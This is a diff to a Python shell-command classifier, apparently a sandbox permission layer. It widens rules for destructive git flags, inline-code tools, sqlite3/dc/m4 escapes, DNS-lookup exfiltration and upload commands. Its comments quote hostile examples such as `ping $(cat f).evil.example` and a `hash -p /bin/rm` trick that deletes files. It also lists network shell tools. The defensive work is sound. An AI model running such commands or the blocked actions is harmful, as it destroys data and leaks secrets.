@@ -15,7 +15,7 @@ from typing import Literal
 
 from .shell import SHELLS, SimpleCommand
 
-MIN_ABBREVIATION = 5  # "--" and three letters: the shortest long-option prefix taken as the option
+MIN_ABBREVIATION = 3  # "--" and one letter: getopt_long takes any unambiguous prefix (`sort --o=F` is --output)
 
 
 def matches_long(arg: str, option: str) -> bool:
@@ -88,11 +88,12 @@ COMMAND_RULES: tuple[tuple[str, CommandPattern], ...] = (
                                        short="R")),
     ("shell.git_discard", _p("git", sub=("reset",), flags=("--hard", "--merge", "--keep"))),
     ("shell.git_discard", _p("git", sub=("clean",), unless=("-n", "--dry-run"))),
-    ("shell.git_discard", _p("git", sub=("checkout",), flags=("--", ".", "-f", "--force", "--ours", "--theirs"))),
+    ("shell.git_discard", _p("git", sub=("checkout",), flags=("--", ".", "-f", "--force", "--ours", "--theirs",
+                                                              "-B"))),
     ("shell.git_discard", _p("git", sub=("switch",), flags=("--discard-changes", "--force", "-f", "-C"))),
     ("shell.git_discard", _p("git", sub=("restore", "rm"))),
     ("shell.git_discard", _p("git", sub=("stash",), flags=("drop", "clear"))),
-    ("shell.git_discard", _p("git", sub=("branch",), flags=("-D", "--delete", "--force", "-f"), short="Df")),
+    ("shell.git_discard", _p("git", sub=("branch",), flags=("-D", "--delete", "--force", "-f"), short="DfMC")),
     ("shell.git_discard", _p("git", sub=("tag",), flags=("--delete",), short="d")),
     ("shell.git_discard", _p("git", sub=("reflog",), flags=("expire", "delete"))),
     ("shell.git_discard", _p("git", sub=("gc",), flags=("--prune", "--aggressive"))),
@@ -121,6 +122,12 @@ COMMAND_RULES: tuple[tuple[str, CommandPattern], ...] = (
     ("shell.code_config", _p("npm", "pnpm", "yarn", "pip", "pip3", sub=("config",), flags=("set", "edit"))),
     ("shell.fed_interpreter", _p("source", ".", sub=("/dev/stdin", "/proc/self/fd/0", "/dev/fd/0", "-"))),
     ("shell.inline_code", _p("trap")),
+    # make's --eval/-E is a makefile given inline: `$(shell rm -rf src)` runs.
+    ("shell.inline_code", _p("make", "gmake", flags=("--eval",), short="E")),
+    # Perl's rename runs its first operand as Perl code (util-linux rename is judged the same).
+    ("shell.inline_code", _p("rename", "prename", "perl-rename", "file-rename")),
+    # bash's `hash -p PATH NAME`: NAME now runs PATH (`hash -p /bin/rm ls; ls -r src` deletes).
+    ("shell.code_config", _p("hash", short="p")),
 )
 
 # Programs that act outside the sandbox through a socket or service: the process they talk to runs
@@ -149,6 +156,14 @@ FOLLOWS_SYMLINKS = {"grep": ("-R", "--dereference-recursive"), "egrep": ("-R",),
                     "ls": ("-L", "--dereference"), "du": ("-L", "--dereference"), "tree": ("-l",),
                     "file": ("-L", "--dereference")}
 
+# Tools whose own language can run a shell command or write files: sqlite3's .shell/.system/.load/
+# .output, VACUUM INTO and ATTACH; dc's `!`; m4's syscmd. Fed from their input they run what it holds.
+ESCAPING_TOOLS: dict[str, re.Pattern[str]] = {
+    "sqlite3": re.compile(r"(?i)(^|[\s;])\.(shell|system|load|output|once|save|backup|excel|import|open|cd|log)\b"
+                          r"|\bload_extension\b|\bvacuum\s+into\b|\battach\b|\bwritefile\s*\(|\bedit\s*\("),
+    "dc": re.compile(r"!"),
+    "m4": re.compile(r"\b(e?syscmd|include|sinclude|maketemp|mkstemp)\b"),
+}
 # Interpreters, and the options that hand them code on the command line.
 INLINE_CODE_OPTIONS: dict[str, tuple[str, ...]] = {
     "python": ("-c",), "pypy": ("-c",), "perl": ("-e", "-E"), "ruby": ("-e",), "node": ("-e", "-p", "--eval",
@@ -182,6 +197,24 @@ DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh
 # Network clients: fed from a pipe or a file, or given a file to upload, they send local data away.
 NETWORK_CLIENTS = DOWNLOADERS | {"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "ftp", "rsync",
                                  "openssl", "sendmail", "mail", "mutt"}
+# Programs that look names up or reach a host: a name built at run time (`ping $(cat f).evil.example`)
+# carries local data out in the lookup itself.
+ADDRESS_CLIENTS = frozenset({"ping", "ping6", "dig", "host", "nslookup", "drill", "getent", "traceroute", "tracepath",
+                             "whois", "mtr", "arping", "nmap"})
+# Commands that publish or upload what is in the workspace: program -> {subcommand: the next words
+# that publish (empty: any)}; "" as the subcommand means the program itself.
+PUBLISHERS: dict[str, dict[str, frozenset[str]]] = {
+    "hg": {"push": frozenset()}, "svn": {"commit": frozenset(), "import": frozenset()},
+    **{name: {"publish": frozenset()} for name in ("npm", "pnpm", "yarn", "cargo", "poetry", "uv", "hatch", "flit")},
+    "twine": {"upload": frozenset()}, "gem": {"push": frozenset()},
+    "gh": {"gist": frozenset({"create", "edit"}), "release": frozenset({"create", "upload"}),
+           "repo": frozenset({"create"})},
+    "glab": {"snippet": frozenset({"create"})}, "aws": {"s3": frozenset({"cp", "sync", "mv"})},
+    "gsutil": {"cp": frozenset(), "rsync": frozenset()}, "gcloud": {"storage": frozenset({"cp", "rsync"})},
+    "rclone": {sub: frozenset() for sub in ("copy", "sync", "move", "copyto", "moveto", "rcat")},
+    "s3cmd": {"put": frozenset(), "sync": frozenset()}, "croc": {"send": frozenset()},
+    "wormhole": {"send": frozenset()}, "pastebinit": {"": frozenset()}, "ffsend": {"upload": frozenset()},
+}
 UPLOAD_OPTIONS = ("--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "--json", "--form",
                   "--form-string", "--upload-file", "--post-file", "--body-file", "--body-data", "-d", "-F", "-T")
 MOVERS = frozenset({"mv", "cp", "install", "ln", "rsync"})
@@ -268,7 +301,7 @@ READ_ONLY: dict[str, ReadOnly] = {
         "pwd", "whoami", "id", "groups", "uname", "nproc", "free", "uptime", "locale", "env", "tty",
         "arch", "lsb_release", "users", "who", "w", "lscpu", "lsblk", "lsmem", "last")},
     "file": _ro(deny=("-C", "--compile")),
-    "tree": _ro(deny=("-o",)),
+    "tree": _ro(deny=("-o", "-R")),  # -R with -H writes 00Tree.html into every directory
     "rg": _ro(deny=("--pre", "--pre-glob", "--hostname-bin")),
     "ag": _ro(deny=("--pager",)),
     "sort": _ro(deny=("--output", "-o", "--compress-program", "--temporary-directory", "-T")),
